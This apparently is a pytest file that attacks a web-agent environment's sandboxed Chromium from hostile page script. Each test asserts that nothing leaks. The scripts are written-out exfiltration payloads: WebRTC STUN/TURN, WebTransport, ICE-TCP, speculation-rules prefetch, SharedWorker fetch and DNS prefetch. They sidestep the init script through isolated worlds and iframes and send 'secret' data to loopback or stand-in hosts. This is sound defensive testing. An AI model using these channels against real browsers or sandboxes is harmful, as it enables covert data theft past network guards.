"""Attacks on the host through the web envs' Chromium: leaks past the route guard.

Page script is hostile here: ``_script`` runs JavaScript in the env's page through the
same CDP call the envs use, standing in for a script the site (or text the agent got
into it) would run. Every listener is on 127.0.0.1, so nothing leaves the machine even
where a defence is missing.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import system_deps
from tests.envs.web.toy_site import ToyEnv
from turngym.envs.web.browser import BrowserHost, find_chromium

pytestmark = [pytest.mark.browser, system_deps.chromium()]

_REPO = Path(__file__).resolve().parents[2]
_POLLS = 200  # of 0.1 s each: how long a killed process tree may take to go away


def _script(env: Any, js: str, isolated: bool = False) -> Any:
    """Run ``js`` in the env's page, as the page's own script would.

    ``isolated`` runs it in a fresh isolated world instead: same document, globals of its
    own that no init script touched. It stands in for any way a page gets back an API
    that the env's init script takes away, to test the defences behind that script.
    """
    inner = env.unwrapped
    page = inner._page
    if not isolated:
        return inner._host.run(page.evaluate(js))

    async def run() -> Any:
        world = await page._cdp.send(
            "Page.createIsolatedWorld", {"frameId": page._frame, "worldName": "attack"}
        )
        reply = await page._cdp.send(
            "Runtime.evaluate",
            {
                "expression": js,
                "contextId": world["executionContextId"],
                "awaitPromise": True,
                "returnByValue": True,
            },
        )
        assert "exceptionDetails" not in reply, reply
        return reply.get("result", {}).get("value")

    return inner._host.run(run())


@pytest.fixture
def toy() -> Iterator[ToyEnv]:
    env = ToyEnv()
    env.reset(seed=0)
    try:
        yield env
    finally:
        env.close()


@pytest.fixture
def udp() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.5)
    try:
        yield sock
    finally:
        sock.close()


@pytest.fixture
def tcp() -> Iterator[socket.socket]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    sock.settimeout(0.5)
    try:
        yield sock
    finally:
        sock.close()


def _datagrams(sock: socket.socket, polls: int = 6) -> list[bytes]:
    """What arrives on ``sock`` during ``polls`` waits of its timeout."""
    got = []
    for _ in range(polls):
        try:
            got.append(sock.recvfrom(4096)[0])
        except TimeoutError:
            continue
    return got


def _connections(sock: socket.socket, polls: int = 6) -> list[bytes]:
    """The first bytes of each connection ``sock`` accepts during ``polls`` waits."""
    got = []
    for _ in range(polls):
        try:
            conn, _ = sock.accept()
        except TimeoutError:
            continue
        with conn:
            conn.settimeout(0.5)
            try:
                got.append(conn.recv(200))
            except OSError:
                got.append(b"")
    return got


# --------------------------------------------------------------------------- UDP


# An RTCPeerConnection gathers candidates from STUN and TURN servers the page names; the
# same from a fresh realm (an about:blank iframe's window), which no init script of the
# outer page touches.
_WEBRTC = """(async () => {{
  const servers = [{{urls: 'stun:127.0.0.1:{port}'}},
                   {{urls: 'turn:127.0.0.1:{port}?transport=udp', username: 'u', credential: 'c'}}];
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const made = [];
  for (const realm of [window, frame.contentWindow]) {{
    const PC = realm.RTCPeerConnection || realm.webkitRTCPeerConnection;
    if (!PC) continue;
    const pc = new PC({{iceServers: servers}});
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    made.push(pc);
  }}
  window.__keep = made;
  await new Promise(r => setTimeout(r, 1000));
  return made.length;
}})()"""


def test_webrtc_sends_no_udp_from_the_page(toy: ToyEnv, udp: socket.socket) -> None:
    # Before: STUN binding requests (20-byte datagrams) reached the listener; the flag
    # --force-webrtc-ip-handling-policy that was meant to stop them is unknown to Chromium.
    port = udp.getsockname()[1]
    assert _script(toy, _WEBRTC.format(port=port)) == 0  # the init script took WebRTC away
    assert _script(toy, _WEBRTC.format(port=port), isolated=True) == 2  # had it anyway
    assert _datagrams(udp) == []


def test_webtransport_sends_no_quic_from_the_page(toy: ToyEnv, udp: socket.socket) -> None:
    # Before: QUIC Initial packets (HTTP/3, UDP) reached the listener.
    port = udp.getsockname()[1]
    attempt = f"""
      try {{ self.__wt = new WebTransport('https://127.0.0.1:{port}/x');
             self.__wt.ready.catch(() => 0); }} catch (e) {{}}"""
    made = _script(
        toy,
        f"""(async () => {{
          const inPage = typeof WebTransport;
          // Workers get no init script: there the page still has WebTransport.
          const code = {json.dumps(attempt)};
          window.__worker = new Worker(URL.createObjectURL(new Blob([code])));
          {attempt}
          await new Promise(r => setTimeout(r, 1000));
          return inPage;
        }})()""",
    )
    assert made == "undefined"
    _script(toy, f"(async () => {{ {attempt} }})()", isolated=True)
    assert _datagrams(udp) == []


# --------------------------------------------------------------------------- TCP, DNS


# Ways a page reaches a loopback port that is not its site without a request that the
# route guard sees: TURN over TCP, ICE-TCP to a remote candidate, speculation-rules
# prefetch and prerender, a SharedWorker's fetch.
_TCP_LEAKS = """(async () => {{
  const target = 'http://127.0.0.1:{port}';
  const turn = new RTCPeerConnection({{iceServers: [
      {{urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'secret', credential: 'c'}}]}});
  turn.createDataChannel('x');
  await turn.setLocalDescription(await turn.createOffer());
  const local = new RTCPeerConnection(), remote = new RTCPeerConnection();
  local.createDataChannel('y');
  await local.setLocalDescription(await local.createOffer());
  await remote.setRemoteDescription(local.localDescription);
  await local.setRemoteDescription(await remote.createAnswer());
  await local.addIceCandidate({{sdpMid: '0',
      candidate: 'candidate:1 1 tcp 2105524479 127.0.0.1 {port} typ host tcptype passive'}})
      .catch(() => 0);
  window.__keep = [turn, local, remote];
  const rules = document.createElement('script');
  rules.type = 'speculationrules';
  rules.textContent = JSON.stringify({{
      prefetch: [{{source: 'list', urls: [target + '/prefetch?secret']}}],
      prerender: [{{source: 'list', urls: [target + '/prerender?secret']}}]}});
  document.head.append(rules);
  try {{
    const code = "fetch('" + target + "/sharedworker?secret').catch(() => 0)";
    new SharedWorker(URL.createObjectURL(new Blob([code], {{type: 'text/javascript'}})));
  }} catch (e) {{}}
  await new Promise(r => setTimeout(r, 1000));
}})()"""


def test_page_reaches_no_other_loopback_port(toy: ToyEnv, tcp: socket.socket) -> None:
    # Before: a TURN allocation (username and all), an ICE-TCP connection, GET
    # /prefetch, GET /prerender and GET /sharedworker reached the listener.
    port = tcp.getsockname()[1]
    _script(toy, _TCP_LEAKS.format(port=port), isolated=True)
    assert _connections(tcp) == []


def test_page_script_makes_no_dns_query(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Before: Chromium's resolver sent DNS queries for the STUN and TURN host names (a
    # channel out of any network that forwards DNS). Chromium's own net log tells.
    chromium = find_chromium()
    if chromium is None:
        pytest.skip("needs a Chromium binary to wrap (Debian's or $TURNGYM_CHROMIUM)")
    netlog = tmp_path / "net.json"
    wrapper = tmp_path / "chromium"
    wrapper.write_text(f'#!/bin/sh\nexec {chromium} --log-net-log={netlog} "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("TURNGYM_CHROMIUM", str(wrapper))
    monkeypatch.setattr(BrowserHost, "_shared", {})  # a browser of its own, with the log
    env = ToyEnv()
    try:
        env.reset(seed=0)
        _script(
            env,
            isolated=True,
            js="""(async () => {
              const pc = new RTCPeerConnection({iceServers: [
                {urls: 'stun:stun-secret.example:3478'},
                {urls: 'turn:turn-secret.example:3478?transport=tcp', username: 'u',
                 credential: 'c'}]});
              pc.createDataChannel('x');
              await pc.setLocalDescription(await pc.createOffer());
              window.__keep = pc;
              for (const rel of ['dns-prefetch', 'preconnect']) {
                const link = document.createElement('link');
                link.rel = rel;
                link.href = '//' + rel + '-secret.example/';
                document.head.append(link);
              }
              await new Promise(r => setTimeout(r, 1500));
            })()""",
        )
    finally:
        env.close()  # Chromium closes the log when it exits
    log = json.loads(netlog.read_text())
    names = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    queries = [
        event.get("params")
        for event in log["events"]
        if names.get(event["type"], "").startswith(("DNS_TRANSACTION", "HOST_RESOLVER_SYSTEM"))
    ]
    assert queries == []
